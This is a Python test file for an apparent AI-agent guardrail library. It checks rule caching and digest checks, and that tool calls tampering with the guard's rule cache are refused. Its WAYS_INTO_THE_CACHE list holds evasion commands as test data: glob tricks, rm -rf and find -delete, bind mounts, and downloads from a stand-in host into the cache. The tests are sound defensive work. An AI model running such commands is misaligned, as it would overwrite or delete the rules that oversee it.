"""Built-in rules from the cache of the user: the same rules, and never others."""

import hashlib
import json
import subprocess
import sys
from importlib.resources import files
from pathlib import Path

import pytest

from demur.codes.registry import Registry
from demur.enforce import open_enforcer
from demur.guards import text_rules
from demur.guards.text_rules import RuleSet, decode_rules, encode_rules, load_rules
from demur.scan.cache import save_cached

NAME = "tool_call"
RULES = files("demur.guards") / "rules"
DIGESTS = json.loads((files("demur.guards") / "data" / "compiled_rules.json").read_text("utf-8"))
KEY = DIGESTS[NAME]["compiled"]


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return the folder of a cache of its own, still empty."""
    monkeypatch.setenv("DEMUR_CACHE", str(tmp_path / "cache"))
    return tmp_path / "cache"


@pytest.fixture
def parsed(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Return the files that are parsed from now on."""
    names: list[str] = []

    def load(path: Path, *, registry: Registry) -> RuleSet:
        names.append(Path(str(path)).stem)
        return load_rules(path, registry=registry)

    monkeypatch.setattr(text_rules, "load_rules", load)
    return names


def load() -> RuleSet:
    return text_rules._load_builtin(NAME)


def describe_search(rules: RuleSet) -> list[object]:
    return [one.index for rule in rules.rules for one in (*rule.patterns, *rule.unless)]


@pytest.mark.parametrize("name", ["output", "tool_call", "compaction", "input_ja"])
def test_decoded_rules_are_those_of_the_file(name: str) -> None:
    rules = load_rules(RULES / f"{name}.yaml", registry=Registry.load())
    decoded = decode_rules(encode_rules(rules), rules.where)

    assert decoded == rules
    assert describe_search(decoded) == describe_search(rules)
    assert hashlib.sha256(encode_rules(rules)).hexdigest() == DIGESTS[name]["compiled"]


def test_the_package_holds_the_digests_of_its_rules() -> None:
    for name, digests in DIGESTS.items():
        found = hashlib.sha256((RULES / f"{name}.yaml").read_bytes()).hexdigest()
        assert found == digests["rules"], f"{name}: run `make generate`"
    assert {"input", "output", "tool_result", "input_de"} <= set(DIGESTS)


def test_rules_are_parsed_once_for_each_user(folder: Path, parsed: list[str]) -> None:
    first, second = load(), load()

    assert parsed == [NAME]
    assert second == first
    kept = folder / f"{KEY}.database"
    assert kept.stat().st_mode & 0o777 == 0o600
    assert folder.stat().st_mode & 0o777 == 0o700


def test_other_rules_in_the_cache_are_not_taken(folder: Path, parsed: list[str]) -> None:
    # INVARIANT: only rules with the digest that the package holds are taken from a cache.
    rules = load()
    weaker = encode_rules(RuleSet(surface=rules.surface, rules=(), digest=rules.digest))
    save_cached(folder, KEY, weaker)

    assert load() == rules
    assert parsed == [NAME, NAME]
    assert load() == rules
    assert parsed == [NAME, NAME], "the cache was mended"


def test_without_a_usable_cache_rules_are_parsed(
    folder: Path, parsed: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    folder.write_text("no folder")
    assert load().rules
    monkeypatch.setenv("DEMUR_CACHE", "off")
    assert load().rules
    assert parsed == [NAME, NAME]


def test_changed_rules_are_parsed(
    folder: Path, parsed: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    known = text_rules._CompiledDigests(rules="0" * 64, compiled=KEY)
    monkeypatch.setattr(text_rules, "_compiled_digests", lambda: {NAME: known})

    assert load().rules
    assert parsed == [NAME]
    assert not folder.exists()


def test_no_guarded_tool_may_write_to_the_cache(folder: Path) -> None:
    enforcer = open_enforcer(store=None)
    file = str(folder / f"{KEY}.database")

    assert enforcer.check_tool_call("bash", {"command": f"cat {file}"}).allowed
    for result in (
        enforcer.check_tool_call("bash", {"command": f"cp mine {file}"}),
        enforcer.check_tool_call("bash", {"command": f"rm -r {folder}"}),
        enforcer.check_tool_call("write_file", {"path": file, "content": "mine"}),
    ):
        assert result.refusal is not None
        assert result.refusal.code == "PRIVILEGE_ESCALATION"


def test_the_cache_is_protected_by_the_names_of_home_too(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("DEMUR_CACHE")
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    monkeypatch.setattr(sys, "platform", "linux")
    enforcer = open_enforcer(store=None)

    assert enforcer.check_tool_call("bash", {"command": "du -sh ~/.cache/demur"}).allowed
    for result in (
        enforcer.check_tool_call("bash", {"command": "rm -rf ~/.cache/demur"}),
        enforcer.check_tool_call("bash", {"command": "cd ~/.cache && cp mine demur/x.database"}),
        enforcer.check_tool_call("write_file", {"path": "~/.cache/demur/x", "content": "mine"}),
    ):
        assert result.refusal is not None
        assert result.refusal.code == "PRIVILEGE_ESCALATION"


WAYS_INTO_THE_CACHE = (
    "cp mine ~/.cache/dem*/x.database",
    "cp mine ~/.c*/demur/x.database",
    "rm -rf ~/.cache/d*r",
    "cp mine ~/.cache/[^x]emur/x.database",
    "cp mine ~/.cache/[!x]emur/x.database",
    "cp mine ~/.cache/[[:alpha:]]emur/x.database",
    "cp mine ~/.cache/[^[:digit:]x]emur/x.database",
    "cp mine ~/.cache/[^A-Z]emur/x.database",
    "cp mine ~/.cache/[]d]emur/x.database",
    "cp mine ~/.cache/[[:lower:][:upper:]]emur/x.database",
    "cp mine ~/.cache/[[=d=]]emur/x.database",
    "cp mine ~/.cache/[x[.d.]]emur/x.database",
    "cp -r mine/demur ~/.cache",
    "cp -r other mine/demur ~/.cache/",
    "rsync -a mine/demur ~/.cache",
    "unzip mine.zip -d ~/.cache/demur",
    "git clone http://x.example/a ~/.cache/demur",
    "git -C ~/.cache clone http://x.example/a demur",
    "git -C ~/.cache clone http://x.example/demur.git",
    "git -C ~/.cache/demur init",
    "cd ~/.cache/demur && git init",
    "cd ~/.cache && git clone http://x.example/demur",
    "wget -P ~/.cache/demur http://x.example/a",
    "aria2c -d ~/.cache/demur http://x.example/a",
    "curl --output-dir ~/.cache -o demur/x.database http://x.example/a",
    "curl --output-dir ~/.cache/demur -O http://x.example/a",
    "dd if=mine of=~/.cache/demur/x.database",
    "mkfifo ~/.cache/demur/x.database",
    "mount --bind mine ~/.cache/demur",
    "find ~/.cache/demur -delete",
)
ORDINARY_WORK = (
    "cp -r mine/other ~/.cache",
    "ls ~/.cache/dem*",
    "rm -rf ~/.cache/pip*",
    "rm -rf ~/.cache/[[:alpha:]]ip",
    "rm -rf ~/.cache/[!d]*",
    "git clone http://x.example/demur work",
    "git clone http://x.example/demur",
    "git -C work init",
    "git init",
    "unzip mine.zip -d work",
)


def test_no_command_finds_a_way_into_the_cache(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("DEMUR_CACHE")
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    monkeypatch.setattr(sys, "platform", "linux")
    enforcer = open_enforcer(store=None)

    for command in WAYS_INTO_THE_CACHE:
        refusal = enforcer.check_tool_call("bash", {"command": command}).refusal
        assert refusal is not None, command
        assert refusal.code == "PRIVILEGE_ESCALATION", command
    for command in ORDINARY_WORK:
        assert enforcer.check_tool_call("bash", {"command": command}).allowed, command


def run_python(code: str) -> str:
    """Return what a fresh process prints."""
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=120
    )
    return done.stdout


_CHECKS = """
enforcer.check_prompt("Where is my order?")
enforcer.check_answer("It is on its way.")
enforcer.check_tool_call("bash", {"command": "ls"})
enforcer.check_tool_result("search", "Paris is in France.")
"""
_OPEN = """
from demur.enforce import Enforcer
from demur.guards import text_rules
enforcer = Enforcer()
"""


def test_the_first_checks_of_a_process_parse_no_rules() -> None:
    run_python(f"{_OPEN}{_CHECKS}")  # fills the cache
    trap = "def fail(*_, **__): raise SystemExit('parsed')\ntext_rules.load_rules = fail\n"
    assert run_python(f"{_OPEN}{trap}{_CHECKS}print('done')") == "done\n"


def test_warm_loads_all_that_the_first_checks_need() -> None:
    code = """
from demur.scan.cache import defer_loading
enforcer.warm()
with defer_loading():
    results = [
        enforcer.check_prompt("Where is my order?"),
        enforcer.check_answer("It is here: T3JkaW5hcnkgd29yZHMgaW4gYmFzZTY0"),
        enforcer.check_tool_call("bash", {"command": "ls"}),
        enforcer.check_tool_result("search", "Paris is in France."),
    ]
print(all(result.allowed for result in results))
"""
    assert run_python(f"{_OPEN}{code}") == "True\n"


@pytest.mark.parametrize("before", ["", 'enforcer.check_prompt("Hello.")'])
def test_the_event_loop_compiles_nothing(before: str) -> None:
    code = """
import asyncio, threading
from demur.scan import database
places = []
def watch(module, name):
    function = getattr(module, name)
    def call(*args, **kwargs):
        places.append(threading.current_thread() is threading.main_thread())
        return function(*args, **kwargs)
    setattr(module, name, call)
watch(text_rules, "decode_rules")
watch(text_rules, "load_rules")
watch(database, "_compile_patterns")
async def run():
    assert (await enforcer.acheck_prompt("Where is my order?")).allowed
    stream = enforcer.stream_answer()
    stream.feed("It is on its way, T3JkaW5hcnkgd29yZHMgaW4gYmFzZTY0 says the courier. " * 9)
    assert (await stream.afinish()).allowed
    assert (await enforcer.acheck_prompt("Wo ist meine Bestellung, und wann kommt sie?")).allowed
    assert (await enforcer.acheck_tool_result("search", "Paris is in France.")).allowed
    await enforcer.awarm()
asyncio.run(run())
print(len(places) > 4, any(places))
"""
    assert run_python(f"{_OPEN}{before}{code}") == "True False\n"
